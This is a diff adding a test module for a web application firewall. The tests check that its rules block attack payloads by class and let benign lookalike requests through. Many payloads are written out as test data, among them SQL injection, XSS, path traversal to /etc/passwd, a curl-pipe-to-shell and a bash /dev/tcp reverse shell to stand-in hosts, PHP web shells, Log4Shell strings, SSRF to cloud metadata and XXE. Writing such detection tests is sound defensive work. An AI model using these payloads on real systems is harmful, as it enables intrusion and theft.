@@ -1,0 +1,295 @@
+"""
+The shipped rules, class by class: attacks of each class are blocked at
+paranoia 1 and classified as that class; requests that look like them but are
+ordinary traffic are not blocked.  The rules alone are tested (no detectors),
+so these hold whether or not the SQLi/XSS detectors are installed.
+"""
+
+from __future__ import annotations
+
+import base64
+from urllib.parse import quote
+from uuid import uuid4
+
+from twisted.trial.unittest import SynchronousTestCase
+
+from veil.waf.engine import Engine
+from veil.waf.policy import SitePolicy
+from veil.waf.request import Request
+
+_ENGINE: list[Engine] = []
+
+
+def engine() -> Engine:
+    """The package's rules without detectors, compiled once for this module."""
+    if not _ENGINE:
+        _ENGINE.append(Engine(detectors={}))
+    return _ENGINE[0]
+
+
+POLICY = SitePolicy(uuid4())
+BROWSER = [(b"Host", b"shop.test"), (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)"),
+           (b"Accept", b"text/html,*/*;q=0.8")]
+
+
+def query(value: str) -> Request:
+    return Request(b"GET", b"/search?q=" + quote(value, safe="").encode(), BROWSER)
+
+
+def header(name: str, value: str) -> Request:
+    return Request(b"GET", b"/", BROWSER + [(name.encode(), value.encode())])
+
+
+def form(**fields: str) -> Request:
+    body = "&".join(f"{k}={quote(v, safe='')}" for k, v in fields.items()).encode()
+    return Request(b"POST", b"/submit", BROWSER + [
+        (b"Content-Type", b"application/x-www-form-urlencoded")], body)
+
+
+def json_body(text: str) -> Request:
+    return Request(b"POST", b"/api", BROWSER + [(b"Content-Type", b"application/json")],
+                   text.encode())
+
+
+def xml_body(text: str) -> Request:
+    return Request(b"POST", b"/soap", BROWSER + [(b"Content-Type", b"application/xml")],
+                   text.encode())
+
+
+class ClassCase(SynchronousTestCase):
+    """Base: helpers that check a verdict."""
+
+    def blocked(self, request: Request, attack_class: str) -> None:
+        verdict = engine().inspect(request, POLICY)
+        self.assertTrue(verdict.blocked, f"not blocked: {request.uri} {request.body[:80]!r}"
+                        f" -> {verdict.score} {[m.rule_id for m in verdict.matches]}")
+        classes = {m.attack_class for m in verdict.matches}
+        self.assertIn(attack_class, classes, request.uri)
+
+    def passes(self, request: Request) -> None:
+        verdict = engine().inspect(request, POLICY)
+        self.assertFalse(verdict.blocked, f"blocked: {request.uri} {request.body[:80]!r}"
+                         f" -> {[(m.rule_id, m.target) for m in verdict.matches]}")
+
+
+class SQLiTests(ClassCase):
+    """SQL injection."""
+
+    def test_attacks(self) -> None:
+        """Tautologies, UNION, stacked queries, time delays, schema probing, comment termination."""
+        for payload in ("1' OR '1'='1", "1 OR 1=1", "-1 UNION ALL SELECT username,password FROM users",
+                        "x'; DROP TABLE users;--", "1 AND SLEEP(5)", "admin'--",
+                        "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
+                        "' UNION/**/SELECT/**/1,2,3--", "1;WAITFOR DELAY '0:0:5'--"):
+            self.blocked(query(payload), "sqli")
+        self.blocked(json_body('{"id": "1\' or 1=1--"}'), "sqli")
+
+    def test_lookalikes(self) -> None:
+        """Prose with SQL words, names with quotes, inch marks."""
+        for text in ("select the best union of colors", "O'Reilly", "Tom & Jerry", "drop earrings",
+                     "how to update my order?", 'necklace 16" or 18"', "order by price"):
+            self.passes(query(text))
+
+
+class XSSTests(ClassCase):
+    """Cross-site scripting."""
+
+    def test_attacks(self) -> None:
+        """Script elements, handlers, script URLs, encoded and obfuscated forms."""
+        for payload in ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
+                        "<svg/onload=alert(document.domain)>", "javascript:alert(1)//",
+                        "&lt;script&gt;alert(1)&lt;/script&gt;", "<iframe src=javascript:alert(1)>",
+                        "';alert(String.fromCharCode(88,83,83))//", "ja\tvascript:alert(1)"):
+            self.blocked(query(payload), "xss")
+        encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
+        self.blocked(header("X-Data", encoded), "xss")
+
+    def test_lookalikes(self) -> None:
+        """Rich-text HTML, JSX, markdown, prose about JavaScript."""
+        self.passes(form(content='<p>Read the <a href="https://example.org/docs">docs</a> &amp; '
+                         '<img src="/a.png" alt="x"></p>'))
+        self.passes(form(raw="```jsx\n<button onClick={save}>Save</button>\n```"))
+        self.passes(query("JavaScript: Basics of JavaScript Language"))
+        self.passes(query("if a < b and c > d"))
+
+
+class TraversalTests(ClassCase):
+    """Path traversal and local file inclusion."""
+
+    def test_attacks(self) -> None:
+        """Dot segments in the path and in values, encoded forms, system files."""
+        self.blocked(Request(b"GET", b"/static/../../etc/passwd", BROWSER), "lfi")
+        self.blocked(Request(b"GET", b"/download?file=..%2f..%2f..%2fetc%2fshadow", BROWSER), "lfi")
+        self.blocked(Request(b"GET", b"/x/%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini", BROWSER), "lfi")
+        self.blocked(query("....//....//boot.ini"), "lfi")
+        self.blocked(query("/proc/self/environ"), "lfi")
+
+    def test_lookalikes(self) -> None:
+        """Relative links in HTML, ellipses, a path in prose."""
+        self.passes(form(content='<a href="../about.html">About us</a>'))
+        self.passes(query("wait... what?"))
+        self.passes(query("the file is in my documents folder"))
+
+
+class RemoteInclusionTests(ClassCase):
+    """Remote file inclusion."""
+
+    def test_attacks(self) -> None:
+        """A URL cut with ?, an include parameter given a URL."""
+        self.blocked(query("http://evil.example/shell.txt?"), "rfi")
+        self.blocked(Request(b"GET", b"/index.php?page=1&include=http://evil.example/x", BROWSER),
+                     "rfi")
+
+    def test_lookalikes(self) -> None:
+        """Redirect and link parameters with ordinary URLs."""
+        self.passes(Request(b"GET", b"/login?next=https%3A%2F%2Fshop.test%2Fcart&ref=https://t.co/x",
+                            BROWSER))
+
+
+class CommandInjectionTests(ClassCase):
+    """Unix and Windows command injection."""
+
+    def test_unix(self) -> None:
+        """Separators, substitution, quoting evasions, reverse shells."""
+        for payload in (";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; c''at /e\"tc/pa\\sswd",
+                        "&& curl http://x.example/s.sh | sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                        ";cat${IFS}/etc/passwd"):
+            self.blocked(query(payload), "rce")
+
+    def test_windows(self) -> None:
+        """cmd.exe and PowerShell."""
+        for payload in ("& dir c:\\", "| type C:\\boot.ini", "powershell -enc SQBFAFgA",
+                        "cmd.exe /c whoami", "& w^ho^am^i"):
+            self.blocked(query(payload), "rce")
+
+    def test_lookalikes(self) -> None:
+        """Command names as words, markdown code fences, a cat in prose."""
+        for text in ("echo in the mirror", "bash away in the gym", "ls 300 lexus", "my cat; his dog",
+                     "I'd go; id rather not"):
+            self.passes(query(text))
+        self.passes(form(raw="Try this:\n\n```python\nimport os\nprint(os.getcwd())\n```"))
+
+
+class CodeInjectionTests(ClassCase):
+    """PHP, Java, template injection."""
+
+    def test_php(self) -> None:
+        """PHP tags, dangerous calls, wrappers, serialized objects, script uploads."""
+        self.blocked(query("<?php system($_GET['c']); ?>"), "php")
+        self.blocked(query("php://filter/convert.base64-encode/resource=index.php"), "php")
+        self.blocked(query('O:8:"stdClass":1:{s:1:"a";s:1:"b";}'), "php")
+        upload = (b'--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n'
+                  b"<?php eval($_POST[x]);\r\n--b--\r\n")
+        self.blocked(Request(b"POST", b"/upload", BROWSER + [
+            (b"Content-Type", b"multipart/form-data; boundary=b")], upload), "php")
+
+    def test_java(self) -> None:
+        """Log4Shell and its obfuscations, OGNL, deserialization."""
+        for value in ("${jndi:ldap://x.example/a}", "${${lower:j}${lower:n}di:ldap://x/a}",
+                      "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+                      "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "rO0ABXNyABFqYXZh"):
+            self.blocked(header("User-Agent", value), "java")
+
+    def test_ssti(self) -> None:
+        """Template probes and sandbox escapes."""
+        for payload in ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+                        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'):
+            request = query(payload)
+            verdict = engine().inspect(request, POLICY)
+            self.assertTrue(verdict.blocked, payload)
+
+    def test_lookalikes(self) -> None:
+        """Template syntax in ordinary text, Java in prose."""
+        self.passes(query("Hello {{ user.name }}, welcome"))
+        self.passes(query("I learned java last year"))
+        self.passes(form(raw="`${name}` is a JS template literal"))
+
+
+class RequestForgeryTests(ClassCase):
+    """SSRF, XXE."""
+
+    def test_ssrf(self) -> None:
+        """Metadata addresses, odd schemes, disguised loopback."""
+        for value in ("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x",
+                      "file:///etc/passwd", "http://2130706433/admin", "http://metadata.google.internal/"):
+            self.blocked(query(value), "ssrf")
+
+    def test_xxe(self) -> None:
+        """External entities in a body and in a parameter."""
+        self.blocked(xml_body('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
+                              '"http://x.example/e">]><r>&x;</r>'), "xxe")
+        self.blocked(query('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://x.example/d.dtd"> %p;]>'), "xxe")
+
+    def test_lookalikes(self) -> None:
+        """A loopback redirect URI (RFC 8252), a plain XML document, a link."""
+        self.passes(Request(b"GET", b"/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F"
+                            b"&client_id=abc", BROWSER))
+        self.passes(xml_body('<?xml version="1.0"?><order id="1"><item>Tea</item></order>'))
+        self.passes(query("https://example.org/about"))
+
+
+class InjectionTests(ClassCase):
+    """NoSQL, LDAP, CRLF, Shellshock."""
+
+    def test_nosqli(self) -> None:
+        """Operators in names and in JSON, JavaScript in $where."""
+        self.blocked(Request(b"GET", b"/login?user=admin&password[$ne]=x", BROWSER), "nosqli")
+        self.blocked(json_body('{"user": "admin", "password": {"$gt": ""}}'), "nosqli")
+        self.blocked(query("'; return true; var x='"), "nosqli")
+
+    def test_ldapi(self) -> None:
+        """Filters closed and opened."""
+        self.blocked(query("*)(uid=*))(|(uid=*"), "ldapi")
+        self.blocked(query("admin)(&(objectClass=*)"), "ldapi")
+
+    def test_crlf(self) -> None:
+        """Response splitting and mail header injection."""
+        self.blocked(Request(b"GET", b"/redirect?to=%0d%0aSet-Cookie:%20sid=evil", BROWSER), "crlf")
+        self.blocked(form(subject="Hi\r\nBcc: victim@example.org"), "crlf")
+
+    def test_shellshock(self) -> None:
+        """A function definition in a header."""
+        self.blocked(header("User-Agent", "() { :; }; /bin/bash -c 'id'"), "shellshock")
+
+    def test_lookalikes(self) -> None:
+        """A textarea with line breaks, a price in dollars, parentheses in prose."""
+        self.passes(form(message="Hello,\r\n\r\nLocation: Paris office\r\nThanks"))
+        self.passes(query("$5 off (members only)"))
+        self.passes(form(note="see (a) and (b)"))
+
+
+class ScannerAndProtocolTests(ClassCase):
+    """Scanners and protocol anomalies."""
+
+    def test_scanners(self) -> None:
+        """Tool user agents and probes for secrets."""
+        self.blocked(header("User-Agent", "sqlmap/1.7#stable (https://sqlmap.org)"), "scanner")
+        for path in (b"/.git/config", b"/.env", b"/actuator/env", b"/backup.sql"):
+            self.blocked(Request(b"GET", path, BROWSER), "scanner")
+
+    def test_protocol(self) -> None:
+        """Odd methods, NUL bytes, overlong escapes, method overrides, smuggled requests."""
+        self.blocked(Request(b"TRACE", b"/", BROWSER), "protocol")
+        self.blocked(Request(b"GET", b"/x.php%00.jpg", BROWSER), "protocol")
+        self.blocked(Request(b"GET", b"/?q=%u0027", BROWSER), "protocol")
+        self.blocked(header("X-HTTP-Method-Override", "TRACE"), "protocol")
+        self.blocked(Request(b"GET", b"/", BROWSER + [(b"Content-Length", b"5")], b"hello"),
+                     "protocol")
+
+    def test_lookalikes(self) -> None:
+        """Health checks, assets, WebDAV, an API client, .well-known."""
+        for method, path in ((b"GET", b"/healthz"), (b"GET", b"/static/app.js?v=1.2"),
+                             (b"PROPFIND", b"/remote.php/dav/files/anna/"),
+                             (b"GET", b"/.well-known/openid-configuration"),
+                             (b"GET", b"/actuator/health")):
+            self.passes(Request(method, path, BROWSER))
+        self.passes(Request(b"GET", b"/api/items", [(b"User-Agent", b"python-requests/2.32")]))
+
+    def test_paranoia_adds(self) -> None:
+        """Higher paranoia levels add rules (a browser without Accept scores at PL3)."""
+        request = Request(b"GET", b"/", [(b"User-Agent", b"Mozilla/5.0")])
+        low = engine().inspect(request, POLICY)
+        high = engine().inspect(request, SitePolicy(uuid4(), paranoia=3))
+        self.assertEqual(low.score, 0)
+        self.assertIn(1042, high.rule_ids)
